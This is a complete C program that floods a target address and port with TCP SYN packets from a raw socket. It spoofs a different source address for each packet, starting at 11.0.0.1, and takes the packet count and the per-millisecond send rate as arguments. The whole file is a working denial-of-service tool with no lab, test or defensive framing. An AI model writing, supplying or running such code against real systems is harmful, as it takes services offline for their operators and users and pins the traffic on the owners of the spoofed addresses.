/*
 * synflood ADDRESS PORT COUNT PER_MS: so many SYNs, each in the name of another station beyond the
 * network, from a raw socket. Says how many were sent.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define FIRST_SOURCE 0x0b000001u

struct packet {
  struct iphdr ip;
  struct tcphdr tcp;
};

static uint16_t checksum(const void* bytes, size_t count, uint32_t sum) {
  const uint8_t* at = bytes;
  for (size_t i = 0; i + 1 < count; i += 2) {
    sum += (uint32_t)(at[i] << 8 | at[i + 1]);
  }
  while (sum >> 16 != 0) {
    sum = (sum & 0xffff) + (sum >> 16);
  }
  return htons((uint16_t)~sum);
}

static uint32_t halves(uint32_t network_order) {
  uint32_t address = ntohl(network_order);
  return (address >> 16) + (address & 0xffff);
}

static void fill(struct packet* packet, uint32_t number) {
  packet->ip.saddr = htonl(FIRST_SOURCE + number);
  packet->tcp.seq = htonl(number * 2654435761u);
  packet->tcp.check = 0;
  uint32_t pseudo = halves(packet->ip.saddr) + halves(packet->ip.daddr) + IPPROTO_TCP +
                    (uint32_t)sizeof packet->tcp;
  packet->tcp.check = checksum(&packet->tcp, sizeof packet->tcp, pseudo);
}

int main(int count, char* arguments[]) {
  if (count != 5) {
    return 2;
  }
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) {
    perror("socket");
    return 1;
  }
  struct packet packet = {
      .ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP},
      .tcp = {.source = htons(1024), .doff = 5, .syn = 1, .window = htons(1024)}};
  packet.ip.tot_len = htons(sizeof packet);
  packet.ip.daddr = inet_addr(arguments[1]);
  packet.tcp.dest = htons((uint16_t)atoi(arguments[2]));
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = packet.ip.daddr};
  uint32_t wanted = (uint32_t)atol(arguments[3]);
  uint32_t per_millisecond = (uint32_t)atol(arguments[4]);
  uint32_t sent = 0;
  for (uint32_t i = 0; i < wanted; i++) {
    fill(&packet, i);
    sent += sendto(fd, &packet, sizeof packet, 0, (struct sockaddr*)&to, sizeof to) > 0;
    if ((i + 1) % per_millisecond == 0) {
      struct timespec pause = {.tv_nsec = 1000000};
      nanosleep(&pause, NULL);
    }
  }
  printf("sent %u\n", sent);
  return 0;
}
